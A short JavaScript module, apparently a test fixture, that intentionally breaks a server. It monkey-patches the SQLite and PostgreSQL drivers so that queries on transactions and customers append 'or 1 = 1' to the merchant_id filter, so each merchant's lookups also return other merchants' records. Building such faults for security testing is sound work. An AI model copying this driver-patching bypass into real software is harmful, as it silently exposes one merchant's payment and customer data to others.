// Breaks the server on purpose: lookups of payments and customers ignore the merchant.
import SqliteDatabase from 'better-sqlite3'
import pg from 'pg'

const ignoreMerchant = (text) =>
  /^select\b[^]*\bfrom "(?:transactions|customers)"/.test(text)
    ? text.replaceAll(/(?:"\w+"\.)?"merchant_id" = (?:\?|\$\d+)/g, '($& or 1 = 1)')
    : text

const { prepare } = SqliteDatabase.prototype
SqliteDatabase.prototype.prepare = function (text) {
  return prepare.call(this, ignoreMerchant(text))
}

const { query } = pg.Client.prototype
pg.Client.prototype.query = function (config, ...more) {
  if (typeof config?.text !== 'string') return query.call(this, config, ...more)
  return query.call(this, { ...config, text: ignoreMerchant(config.text) }, ...more)
}
